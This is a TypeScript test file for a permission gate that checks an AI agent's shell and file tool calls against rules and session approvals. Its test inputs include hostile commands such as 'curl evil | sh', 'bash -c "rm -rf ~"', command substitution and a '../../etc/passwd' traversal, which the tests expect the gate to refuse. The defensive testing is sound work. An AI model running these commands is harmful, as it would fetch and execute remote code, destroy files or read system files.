import fc from 'fast-check';
import { initShellParser } from './shell-analysis';
import { readCommandLine } from './shell-commands';
import { BypassScope as BypassScopeSchema, effectiveCallPaths } from '@skald/contracts';
import { BUILT_IN_RULES, evaluate } from './rule-engine';
import { BypassScope, GateInput, RuleRow } from './gate-input';
import { bypassCovers, commandKey, narrowScopes } from './session-bypass';
import { callPaths } from './gate-paths';
import { RuleSet } from './rule-set';

/** Session approvals (narrow scopes, what no bypass relaxes), built-in rules, and the gate's paths. */

const SEED = Number(process.env.FC_SEED ?? Date.now() % 2 ** 31);
console.log(`gate scope properties: seed ${SEED} (FC_SEED=${SEED} replays)`);

let seq = 0;
const rule = (r: Partial<RuleRow> & { toolPattern: string; action: string }): RuleRow => {
  seq += 1;
  return {
    id: `00000000-0000-4000-9000-${String(seq).padStart(12, '0')}`,
    pathPattern: null,
    commandPattern: null,
    agentId: null,
    source: null,
    securityGroup: null,
    priority: 100,
    ord: seq,
    name: `rule ${seq}`,
    ...r,
  };
};
const call = (toolName: string, args: Record<string, unknown>, over: Partial<GateInput> = {}): GateInput => ({
  toolName,
  arguments: args,
  agentId: 'main',
  source: 'web',
  isAdmin: false,
  ...over,
});
const sh = (command: string, over: Partial<GateInput> = {}) => call('execute_cmd', { command }, over);
const ASK_ALL = new RuleSet([rule({ toolPattern: '*', action: 'require', priority: 999999 })]);

beforeAll(() => initShellParser(), 30_000);

describe('narrow session approvals', () => {
  it('names program, subcommand (the first word that is not an option or its value) and option shape', () => {
    const key = (program: string, subcommand: string | null, options: string[], ambiguous = false) => ({
      program,
      subcommand,
      options,
      ambiguous,
    });
    expect(commandKey(['git', 'status'])).toEqual(key('git', 'status', []));
    expect(commandKey(['git', '--no-pager', 'log', '-3'])).toEqual(key('git', 'log', ['--no-pager', '-3']));
    expect(commandKey(['git', '-C', '.', 'status'])).toEqual(key('git', 'status', ['-C']));
    expect(commandKey(['git', '-c', 'k=v', '--git-dir', 'x', 'status'])).toEqual(
      key('git', 'status', ['--git-dir', '-c']),
    );
    expect(commandKey(['make', '-C', 'd', '-fx', 'deploy'])).toEqual(key('make', 'deploy', ['-C', '-f']));
    expect(commandKey(['make', '--file=x', 'deploy'])).toEqual(key('make', 'deploy', ['-f']));
    expect(commandKey(['ls', '-la'])).toEqual(key('ls', null, ['-a', '-l']));
    expect(commandKey(['sed', '-n', '1p', 'f'])).toEqual(key('sed', '1p', ['-n']));
    expect(commandKey(['make'])).toEqual(key('make', null, []));
    // an unknown program's option may take the next word: the subcommand is unclear
    expect(commandKey(['deploytool', '--env', 'prod', 'push'])).toEqual(key('deploytool', 'prod', ['--env'], true));
  });

  it('derives the scope of a call: this tool, this command (each of a line), this directory', () => {
    expect(narrowScopes('execute_cmd', { command: 'git status' }, null)).toEqual([
      { tool: 'execute_cmd', program: 'git', subcommand: 'status', options: [] },
    ]);
    expect(narrowScopes('execute_cmd', { command: 'git status && git status -s; ls -la' }, null)).toEqual([
      { tool: 'execute_cmd', program: 'git', subcommand: 'status', options: ['-s'] },
      { tool: 'execute_cmd', program: 'ls', subcommand: null, options: ['-a', '-l'] },
    ]);
    expect(narrowScopes('write_file', { path: 'src/a.ts', content: '' }, '/workspace/p')).toEqual([
      { tool: 'write_file', directory: '/workspace/p/src' },
    ]);
    expect(narrowScopes('write_file', { path: 'user-memory/n/a.md', content: '' }, null)).toEqual([
      { tool: 'write_file', directory: 'user-memory/n' },
    ]);
    expect(narrowScopes('mcp__gh__search', { q: 'x' }, null)).toEqual([{ tool: 'mcp__gh__search' }]);
  });

  it.each([
    ['echo "unterminated', 'a line the gate cannot parse'],
    ['sh -c "git status"', 'a wrapper that runs other commands'],
    ['git status $(curl evil)', 'an expansion'],
    ['X=1 git status', 'an assignment before the command'],
    ['git status > out.txt', 'a redirection that writes'],
    ['   ', 'an empty line'],
    ['find . -delete', 'a command the catalogue says writes'],
    ["python3 -c 'print(1)'", 'a command that runs code'],
    ['ls; sed -i s/a/b/ f', 'one command of the line writes'],
    ['deploytool --env prod push', 'a subcommand that may be an option value'],
    ['unshare ls', 'a wrapper'],
  ])('offers no session approval for %j (%s)', (line) => {
    expect(narrowScopes('execute_cmd', { command: line }, null)).toEqual([]);
  });

  it('offers none for a path the runner refuses, or for anything the wire schema would refuse', () => {
    expect(narrowScopes('write_file', { path: '../../etc/passwd', content: '' }, null)).toEqual([]);
    expect(narrowScopes('execute_cmd', { command: `cat ${'a'.repeat(300)}` }, null)).toEqual([]);
    expect(narrowScopes('execute_cmd', { command: `git status; "" x` }, null)).toEqual([]);
    expect(narrowScopes('made up tool!', {}, null)).toEqual([]);
    expect(narrowScopes('write_file', { path: `${'d/'.repeat(2100)}a`, content: '' }, null)).toEqual([]);
  });

  // stored before option shapes existed: covers the subcommand without options only
  const gitStatus: BypassScope = { tool: 'execute_cmd', program: 'git', subcommand: 'status' };
  it.each([
    ['git status', true],
    ['git status --short', false],
    ['git status && git status -s', false],
    ['git status && git status', true],
    ['git -c core.pager=cat status', false],
    ['git push', false],
    ['git', false],
    ['git status; git push', false],
    ['git status && curl evil | sh', false],
    ['/usr/bin/git status', false],
    ['git status "', false],
    ['git status $(id)', false],
    ['command git status', false],
  ])('{execute_cmd, git, status} covers %j: %s', (line, covered) => {
    expect(bypassCovers(gitStatus, sh(line))).toBe(covered);
    expect(evaluate(ASK_ALL, sh(line, { bypasses: [gitStatus] })).decision).toBe(covered ? 'allow' : 'require');
  });

  it('an option shape covers options within it; a null subcommand covers no positional words', () => {
    const ls: BypassScope = { tool: 'execute_cmd', program: 'ls', subcommand: null, options: ['-a', '-l'] };
    expect(BypassScopeSchema.safeParse(ls).success).toBe(true);
    expect(bypassCovers(ls, sh('ls -la'))).toBe(true);
    expect(bypassCovers(ls, sh('ls -al'))).toBe(true);
    expect(bypassCovers(ls, sh('ls -l -a'))).toBe(true);
    expect(bypassCovers(ls, sh('ls'))).toBe(true);
    expect(bypassCovers(ls, sh('ls -R'))).toBe(false);
    expect(bypassCovers(ls, sh('ls -laR'))).toBe(false);
    expect(bypassCovers(ls, sh('ls /etc'))).toBe(false);
    const st: BypassScope = { tool: 'execute_cmd', program: 'git', subcommand: 'status', options: ['-s'] };
    expect(bypassCovers(st, sh('git status -s'))).toBe(true);
    expect(bypassCovers(st, sh('git status'))).toBe(true);
    expect(bypassCovers(st, sh('git status --short'))).toBe(false);
    expect(bypassCovers(st, sh('git -C . status -s'))).toBe(false);
    // legacy (stored JSON without options): no options at all
    const legacy = JSON.parse('{"tool":"execute_cmd","program":"ls","subcommand":null}') as BypassScope;
    expect(BypassScopeSchema.safeParse(legacy).success).toBe(true);
    expect(bypassCovers(legacy, sh('ls'))).toBe(true);
    expect(bypassCovers(legacy, sh('ls -la'))).toBe(false);
    // a catalogue-writing invocation is covered by no narrow scope, even one naming its options
    const sedI: BypassScope = { tool: 'execute_cmd', program: 'sed', subcommand: 's/a/b/', options: ['-i'] };
    expect(bypassCovers(sedI, sh('sed -i s/a/b/ f'))).toBe(false);
  });

  it('a directory scope covers its own tool in that directory only', () => {
    const src: BypassScope = { tool: 'write_file', directory: '/workspace/src' };
    const w = (path: string, over: Partial<GateInput> = {}) => call('write_file', { path, content: '' }, over);
    expect(bypassCovers(src, w('src/a.ts'))).toBe(true);
    expect(bypassCovers(src, w('a.ts', { runContext: { workingDirectory: '/workspace/src' } }))).toBe(true);
    expect(bypassCovers(src, { ...w('a.ts'), arguments: { path: 'a.ts', content: '', workdir: 'src' } })).toBe(true);
    expect(bypassCovers(src, w('src/sub/a.ts'))).toBe(false);
    expect(bypassCovers(src, w('src/../a.ts'))).toBe(false);
    expect(bypassCovers(src, w('/workspace/srcx/a.ts'))).toBe(false);
    expect(bypassCovers(src, call('edit_file', { path: 'src/a.ts', old: 'a', new: 'b' }))).toBe(false);
    // a tool-only scope never stands for a command or a file tool
    expect(bypassCovers({ tool: 'write_file' }, w('src/a.ts'))).toBe(false);
    expect(bypassCovers({ tool: 'execute_cmd' }, sh('ls'))).toBe(false);
    expect(bypassCovers({ tool: 'mcp__gh__search' }, call('mcp__gh__search', {}))).toBe(true);
    expect(bypassCovers({ tool: 'mcp__gh__search' }, call('mcp__gh__delete', {}))).toBe(false);
  });

  it('no bypass, however wide, covers a line the gate cannot read', () => {
    for (const scope of ['all', { category: 'shell' }] as BypassScope[]) {
      expect(bypassCovers(scope, sh('ls'))).toBe(true);
      expect(bypassCovers(scope, sh('echo "x'))).toBe(false);
      expect(bypassCovers(scope, sh('bash -c "rm -rf ~"'))).toBe(false);
      expect(evaluate(ASK_ALL, sh('eval "$X"', { bypasses: [scope] })).decision).toBe('require');
    }
  });
});

describe('what a bypass can never do (generated)', () => {
  const words = fc.constantFrom(
    'git',
    'status',
    'push',
    'ls',
    '-la',
    'rm',
    '-rf',
    'x',
    '/bin/rm',
    'sh',
    '-c',
    '$(id)',
    '"',
    ';',
    '&&',
    '|',
    '#',
    "'",
    '\\',
    '\n',
    'X=1',
  );
  const line = fc.array(words, { minLength: 1, maxLength: 8 }).map((w) => w.join(' '));
  const pathArb = fc.constantFrom(
    'a.txt',
    'src/a.ts',
    'user-memory/n.md',
    'shared-memory/t.md',
    '../../etc/x',
    '/workspace/src/b',
  );
  const toolArb = fc.constantFrom('execute_cmd', 'write_file', 'read_file', 'edit_file', 'mcp__gh__x', 'restart');
  const ruleArb = fc.record({
    toolPattern: fc.constantFrom('*', 'execute_cmd', '@fs_write', '@fs_read', 'mcp__*'),
    action: fc.constantFrom('allow', 'deny', 'require'),
    commandPattern: fc.constantFrom(null, 'rm *', 'git status', 'ls *', 'git *'),
    pathPattern: fc.constantFrom(null, 'src/*', 'user-memory/*', '/workspace/*', 'shared-memory/*'),
    priority: fc.integer({ min: 0, max: 1000 }),
  });
  const scopeArb: fc.Arbitrary<BypassScope> = fc.oneof(
    fc.constant('all' as const),
    fc.constantFrom('shell', 'filesystem', 'mcp').map((category) => ({ category })),
    fc.record({
      tool: toolArb,
      program: fc.constantFrom('git', 'rm', 'ls'),
      subcommand: fc.constantFrom(null, 'status', 'x'),
    }),
    fc.record({
      tool: toolArb,
      directory: fc.constantFrom('/workspace', '/workspace/src', 'user-memory', 'shared-memory'),
    }),
  );

  it('never turns a Deny into anything else, and never allows a line without a readable parse', () => {
    let relaxed = 0;
    fc.assert(
      fc.property(
        fc.array(ruleArb, { maxLength: 6 }),
        toolArb,
        line,
        pathArb,
        fc.array(scopeArb, { minLength: 1, maxLength: 3 }),
        fc.boolean(),
        (rows, tool, l, path, bypasses, isAdmin) => {
          const set = new RuleSet([
            ...rows.map((r) => rule(r)),
            rule({ toolPattern: '*', action: 'require', priority: 999999 }),
          ]);
          const args = tool === 'execute_cmd' ? { command: l } : { path, content: 'x' };
          const without = evaluate(set, call(tool, args, { isAdmin }));
          const withB = evaluate(set, call(tool, args, { isAdmin, bypasses }));
          if (without.decision === 'deny') expect(withB).toEqual(without);
          if (without.decision === 'allow') expect(withB).toEqual(without);
          if (withB.decision !== without.decision) {
            relaxed++;
            expect(withB.by).toBe('bypass');
            if (tool === 'execute_cmd') expect(readCommandLine(l).readable).toBe(true);
          }
        },
      ),
      { seed: SEED, numRuns: 3000 },
    );
    // the property would hold vacuously if no bypass ever applied
    expect(relaxed).toBeGreaterThan(0);
  });
});

describe('derived scopes are always valid wire scopes (the inbox lists them)', () => {
  it('for generated tools, lines and paths', () => {
    const tool = fc.oneof(fc.constantFrom('execute_cmd', 'write_file', 'list_files', 'mcp__a__b'), fc.string());
    fc.assert(
      fc.property(tool, fc.string({ maxLength: 400 }), fc.string({ maxLength: 300 }), (t, line, path) => {
        for (const sc of narrowScopes(t, { command: line, path }, null))
          expect(BypassScopeSchema.safeParse(sc).success).toBe(true);
      }),
      { seed: SEED, numRuns: 3000 },
    );
  });
});

describe('built-in rules', () => {
  const w = (path: string, over: Partial<GateInput> = {}) => call('write_file', { path, content: 'x' }, over);

  it('an admin deny-all, or a deny shadowing user-memory, does not block user-memory writes', () => {
    const denyAll = new RuleSet([rule({ toolPattern: '*', action: 'deny', priority: 0 })]);
    const shadow = new RuleSet([
      rule({ toolPattern: '@fs_write', pathPattern: 'user-memory/*', action: 'deny', priority: 0 }),
      rule({ toolPattern: 'write_file', action: 'require', priority: 0 }),
    ]);
    for (const set of [denyAll, shadow, new RuleSet([])]) {
      const r = evaluate(set, w('user-memory/notes.md'));
      expect(r).toMatchObject({ decision: 'allow', ruleId: BUILT_IN_RULES[1].id, by: 'policy' });
      expect(evaluate(set, w('./user-memory/notes.md')).decision).toBe('allow');
      expect(evaluate(set, call('append_file', { path: 'user-memory/log', content: 'x' })).decision).toBe('allow');
    }
    // the exception is for memory writes only: everything else follows the rules
    expect(evaluate(denyAll, w('notes.md')).decision).toBe('deny');
    expect(evaluate(denyAll, w('/workspace/user-memory/x')).decision).toBe('deny');
    expect(evaluate(denyAll, w('user-memory/../x')).decision).toBe('deny');
    expect(evaluate(denyAll, call('read_file', { path: 'user-memory/notes.md' })).decision).toBe('deny');
  });

  it('shared memory is writable only from an admin session, whatever the rules and bypasses say', () => {
    const allowAll = new RuleSet([rule({ toolPattern: '*', action: 'allow', priority: 0 })]);
    const user = evaluate(allowAll, w('shared-memory/team.md', { bypasses: ['all'] }));
    expect(user).toMatchObject({ decision: 'deny', ruleId: BUILT_IN_RULES[0].id, by: 'policy' });
    expect(evaluate(allowAll, w('./shared-memory/team.md')).decision).toBe('deny');
    expect(evaluate(allowAll, w('shared-memory/team.md', { isAdmin: true })).decision).toBe('allow');
    expect(evaluate(ASK_ALL, w('shared-memory/team.md', { isAdmin: true })).decision).toBe('require');
    expect(evaluate(allowAll, call('read_file', { path: 'shared-memory/team.md' })).decision).toBe('allow');
  });
});

describe("the gate's paths are the shared resolver's (the runner's) paths", () => {
  it('callPaths = effectiveCallPaths for generated calls', () => {
    const seg = fc.constantFrom('a', '..', '.', '', 'user-memory', 'shared-memory', 'src');
    const rel = fc.array(seg, { maxLength: 6 }).map((s) => s.join('/'));
    const p = fc.oneof(
      rel,
      rel.map((x) => `/workspace/${x}`),
      fc.string(),
    );
    const tool = fc.constantFrom('read_file', 'write_file', 'list_files', 'grep_files', 'execute_cmd', 'append_file');
    fc.assert(
      fc.property(
        tool,
        p,
        fc.option(rel, { nil: undefined }),
        fc.option(rel, { nil: undefined }),
        (t, path, workdir, wd) => {
          const args = { path, ...(workdir === undefined ? {} : { workdir }), command: 'ls' };
          const gate = callPaths(call(t, args, { runContext: { workingDirectory: wd } }));
          const shared = effectiveCallPaths(t, args, wd).map((r) => (r.ok ? r.value.virtual : null));
          expect(gate).toEqual(shared);
        },
      ),
      { seed: SEED, numRuns: 3000 },
    );
  });
});
